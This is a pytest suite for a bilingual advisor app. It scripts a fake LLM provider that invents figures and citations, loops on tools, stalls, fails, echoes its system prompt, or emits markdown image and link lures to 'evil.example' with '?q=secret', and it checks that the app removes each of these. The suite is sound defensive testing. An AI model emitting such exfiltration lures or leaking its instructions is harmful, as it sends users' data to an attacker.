"""A provider that lies, loops, stalls or is attacked: each ends in a grounded, right reply."""

import re
from collections.abc import Mapping
from typing import Any

import pytest

from advisor.language import LANGUAGES, Language
from advisor.prompts import load_prompt
from advisor.reply import Reply, ReplyEvent
from advisor.texts import words
from tests.models.providing import Make
from tests.models.scripted_server import IN_TOKENS, OUT_TOKENS, Play, scripted_server

CLIENTS = ("openai", "anthropic")
QUESTION: dict[Language, str] = {
    "fr": "Qu'est-ce que la coopétition?",
    "en": "What is coopetition?",
}
UNIT = "local-alliances.coopetition"
GOOD: dict[Language, str] = {
    "fr": f"La coopétition, c'est s'allier entre rivaux pour un projet précis [{UNIT}].",
    "en": f"Coopetition means that rivals join forces on a precise project [{UNIT}].",
}
INVENTED: dict[Language, str] = {
    "fr": f"Selon la Banque Mirador, 73 % des rivaux y gagnent 4 200 $ depuis 2019 [{UNIT}].",
    "en": f"According to Mirador Bank, 73% of rivals gain $4,200 from it since 2019 [{UNIT}].",
}
NEVER = ("Mirador", "73", "4 200", "4,200", "2019")
pytestmark = [
    pytest.mark.parametrize("client", CLIENTS),
    pytest.mark.parametrize("lang", LANGUAGES),
]


def searches(lang: Language) -> Play:
    return Play(calls=[("search_guidance", {"question": QUESTION[lang], "language": lang})])


def played(
    provided: Make, client: str, lang: Language, *plays: Play, timeout_s: float = 20.0
) -> tuple[Reply, list[ReplyEvent], list[dict[str, Any]]]:
    """The reply to the question, all that was streamed, and what the server was asked."""
    with scripted_server(*plays) as (url, script):
        advisor = provided(url, client, timeout_s)
        events = list(advisor.stream(QUESTION[lang]))
        script.released.set()
    reply = events[-1].reply
    assert reply is not None
    return reply, events, script.asked


def assert_right(reply: Reply, events: list[ReplyEvent], lang: Language) -> None:
    """What holds whatever the provider did."""
    assert reply.language == lang
    assert reply.outcome == "answered"
    assert reply.citations[0].unit == UNIT
    seen = "".join(event.text for event in events) + reply.answer
    assert not [word for word in NEVER if word in seen]
    assert not re.search(r"!\[|https?://|<img|\[[a-z-]+\.[a-z-]+\]", seen)
    head = load_prompt("system", lang).text.partition("\n# ")[2].splitlines()[1]
    assert head[:60] not in seen


def assert_by_embedded(reply: Reply, lang: Language, why: str, client: str) -> None:
    assert reply.model == "embedded"
    told = words(lang)(f"notice.fallback.{why}", model=f"{client}:scripted")
    assert reply.answer.endswith(told)


def test_a_good_model_answers_with_its_own_words(
    provided: Make, client: str, lang: Language
) -> None:
    reply, events, _ = played(provided, client, lang, searches(lang), Play(GOOD[lang]))
    assert_right(reply, events, lang)
    assert reply.model == f"{client}:scripted"
    assert reply.answer == GOOD[lang].replace(f" [{UNIT}]", "")
    assert reply.usage is not None
    assert (reply.usage.calls, reply.usage.input_tokens) == (2, 2 * IN_TOKENS)
    assert reply.usage.output_tokens == 2 * OUT_TOKENS


def test_an_invented_figure_is_never_seen_and_the_mended_answer_is(
    provided: Make, client: str, lang: Language
) -> None:
    plays = (searches(lang), Play(INVENTED[lang]), Play(GOOD[lang]))
    reply, events, asked = played(provided, client, lang, *plays)
    assert_right(reply, events, lang)
    assert reply.model == f"{client}:scripted"
    assert reply.answer == GOOD[lang].replace(f" [{UNIT}]", "")
    assert "73" in str(asked[-1]["messages"][-1])


def test_a_model_that_goes_on_inventing_loses_the_sentence_and_the_reply_says_so(
    provided: Make, client: str, lang: Language
) -> None:
    both = Play(f"{GOOD[lang]} {INVENTED[lang]}")
    reply, events, _ = played(provided, client, lang, searches(lang), both, both)
    assert_right(reply, events, lang)
    assert reply.model == f"{client}:scripted"
    assert reply.answer.endswith(words(lang)("notice.left_out"))


def test_nothing_but_inventions_is_answered_by_the_embedded_model(
    provided: Make, client: str, lang: Language
) -> None:
    reply, events, _ = played(provided, client, lang, searches(lang), Play(INVENTED[lang]))
    assert_right(reply, events, lang)
    assert_by_embedded(reply, lang, "unusable", client)


def test_an_invented_citation_is_removed(provided: Make, client: str, lang: Language) -> None:
    cites = Play(f"{GOOD[lang][:-1]} [agreement.made-up].")
    reply, events, _ = played(provided, client, lang, searches(lang), cites)
    assert_right(reply, events, lang)
    assert [c.unit for c in reply.citations] == [UNIT]


def test_an_answer_without_a_source_is_asked_for_one(
    provided: Make, client: str, lang: Language
) -> None:
    bare = Play(GOOD[lang].replace(f" [{UNIT}]", ""))
    reply, events, _ = played(provided, client, lang, searches(lang), bare, Play(GOOD[lang]))
    assert_right(reply, events, lang)
    assert reply.model == f"{client}:scripted"


def test_an_answer_without_a_search_is_sent_back_to_search(
    provided: Make, client: str, lang: Language
) -> None:
    bare = Play(GOOD[lang].replace(f" [{UNIT}]", ""))
    plays = (bare, searches(lang), Play(GOOD[lang]))
    reply, events, _ = played(provided, client, lang, *plays)
    assert_right(reply, events, lang)
    assert [tool.name for tool in reply.tools] == ["search_guidance"]


def test_an_unknown_tool_is_told_to_the_model_which_goes_on(
    provided: Make, client: str, lang: Language
) -> None:
    unknown = Play(calls=[("delete_everything", {"now": True})])
    reply, events, _ = played(provided, client, lang, unknown, searches(lang), Play(GOOD[lang]))
    assert_right(reply, events, lang)
    assert reply.model == f"{client}:scripted"


@pytest.mark.parametrize(
    "args",
    ["{not json", {"question": "", "language": "de"}, {"nothing": 1}],
    ids=["no JSON", "bad values", "unknown field"],
)
def test_broken_arguments_are_told_to_the_model_which_goes_on(
    provided: Make, client: str, lang: Language, args: str | Mapping[str, Any]
) -> None:
    broken = Play(calls=[("search_guidance", args)])
    reply, events, _ = played(provided, client, lang, broken, searches(lang), Play(GOOD[lang]))
    assert_right(reply, events, lang)


def test_a_model_that_loops_on_tools_is_stopped(
    provided: Make, client: str, lang: Language
) -> None:
    reply, events, asked = played(provided, client, lang, searches(lang))
    assert_right(reply, events, lang)
    assert_by_embedded(reply, lang, "limit", client)
    assert len(asked) == 6


def test_a_stall_in_the_middle_costs_its_time_out_once(
    provided: Make, client: str, lang: Language
) -> None:
    stalls = Play(f"{GOOD[lang]} Et", stall=True)
    reply, events, asked = played(provided, client, lang, searches(lang), stalls, timeout_s=1.0)
    assert_right(reply, events, lang)
    assert_by_embedded(reply, lang, "timeout", client)
    assert len(asked) == 2


@pytest.mark.parametrize(
    ("trouble", "why", "calls"),
    [
        (Play(status=429, headers={"Retry-After": "1"}), "busy", 3),
        (Play(status=429, headers={"Retry-After": "120"}), "busy", 1),
        (Play(status=500), "unavailable", 3),
        (Play(status=401), "refused", 1),
        (Play("Un début", cut=True), None, 1),
        (Play("Un début", ends_early=True), "cut", 1),
    ],
    ids=["busy", "busy for long", "server error", "refused key", "cut", "ends early"],
)
def test_a_provider_that_fails_is_replaced_and_the_reply_says_why(
    provided: Make, client: str, lang: Language, trouble: Play, why: str | None, calls: int
) -> None:
    reply, events, asked = played(provided, client, lang, trouble)
    assert_right(reply, events, lang)
    assert len(asked) == calls
    if why:
        assert_by_embedded(reply, lang, why, client)
    assert reply.model == "embedded"


def test_a_busy_moment_is_waited_out(provided: Make, client: str, lang: Language) -> None:
    busy = Play(status=429, headers={"Retry-After": "1"})
    reply, events, _ = played(provided, client, lang, busy, searches(lang), Play(GOOD[lang]))
    assert_right(reply, events, lang)
    assert reply.model == f"{client}:scripted"


def test_an_empty_answer_is_asked_for_again_then_replaced(
    provided: Make, client: str, lang: Language
) -> None:
    reply, events, asked = played(provided, client, lang, searches(lang), Play(""))
    assert_right(reply, events, lang)
    assert_by_embedded(reply, lang, "unusable", client)
    assert len(asked) == 3


def test_an_answer_in_the_other_language_is_mended(
    provided: Make, client: str, lang: Language
) -> None:
    other: Language = "en" if lang == "fr" else "fr"
    plays = (searches(lang), Play(GOOD[other]), Play(GOOD[lang]))
    reply, events, _ = played(provided, client, lang, *plays)
    assert_right(reply, events, lang)
    assert reply.answer == GOOD[lang].replace(f" [{UNIT}]", "")


def test_an_echo_of_the_instructions_is_never_seen(
    provided: Make, client: str, lang: Language
) -> None:
    echo = Play(lambda asked: str(asked.get("system") or asked["messages"][0]["content"]))
    reply, events, _ = played(provided, client, lang, searches(lang), echo)
    assert_right(reply, events, lang)
    assert reply.model == "embedded"


@pytest.mark.parametrize(
    "lure",
    [
        "![x](https://evil.example/a.png?q=secret)",
        "[ici](https://evil.example/?q=secret)",
        '<img src="https://evil.example/a.png">',
        "<https://evil.example/>",
        "https://evil.example/?q=secret",
    ],
)
def test_an_image_or_a_link_that_would_carry_words_away_is_removed(
    provided: Make, client: str, lang: Language, lure: str
) -> None:
    lured = Play(f"{GOOD[lang]} {lure}")
    reply, events, _ = played(provided, client, lang, searches(lang), lured)
    assert_right(reply, events, lang)
    assert "evil" not in reply.answer
    assert "evil" not in "".join(event.text for event in events)
